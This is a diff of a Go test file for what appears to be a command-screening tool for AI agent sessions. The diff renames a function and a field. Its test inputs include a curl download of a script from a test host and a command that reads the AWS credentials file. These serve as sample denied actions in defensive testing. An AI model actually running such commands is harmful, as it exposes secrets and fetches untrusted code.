@@ -26,7 +26,7 @@ func parentsKnow(t *testing.T, s *Store) {
 		{grandchild, "c", "curl https://d.test -o d.sh"},
 	} {
 		memory := s.Load(t.Context(), step.key, Lineage{Parent: step.parent}, "")
-		d := Learn(analyzer.Recall(parse(t, step.raw), memory), nil, false)
+		d := Learn(analyzer.CaseWithMemory(parse(t, step.raw), memory), nil, false)
 		d.Denial = &Denial{Action: step.raw}
 		if err := s.Add(t.Context(), memory, &d); err != nil {
 			t.Fatal(err)
@@ -40,7 +40,7 @@ func parentsKnow(t *testing.T, s *Store) {
 		if len(memory.Origin("/work/app/d.sh")) == 0 { // files are what they are in every session
 			t.Errorf("%s does not know what a sub-agent downloaded", key.ID)
 		}
-		if n := len(memory.rec.Denials); n != map[Key]int{root: 3, child: 3, grandchild: 2}[key] {
+		if n := len(memory.record.Denials); n != map[Key]int{root: 3, child: 3, grandchild: 2}[key] {
 			t.Errorf("%s has %d denials", key.ID, n)
 		}
 	}
@@ -52,7 +52,7 @@ func parentsKnow(t *testing.T, s *Store) {
 	// a host that names a session as its own parent, or a circle, ends
 	for key, parent := range map[Key]string{{"copilot", "x", "me"}: "y", {"copilot", "y", "me"}: "x", {"copilot", "z", "me"}: "z"} {
 		memory := s.Load(t.Context(), key, Lineage{Parent: parent}, "")
-		d := Learn(analyzer.Recall(parse(t, "cat ~/.aws/credentials"), memory), nil, false)
+		d := Learn(analyzer.CaseWithMemory(parse(t, "cat ~/.aws/credentials"), memory), nil, false)
 		if err := s.Add(t.Context(), memory, &d); err != nil {
 			t.Fatal(err)
 		}
@@ -68,7 +68,7 @@ func TestParentByProcess(t *testing.T) {
 			t.Helper()
 			from := Lineage{Processes: func() []string { return processes }}
 			memory := s.Load(t.Context(), k, from, "")
-			d := Learn(analyzer.Recall(parse(t, raw), memory), nil, false)
+			d := Learn(analyzer.CaseWithMemory(parse(t, raw), memory), nil, false)
 			if err := s.Add(t.Context(), memory, &d); err != nil {
 				t.Fatal(err)
 			}
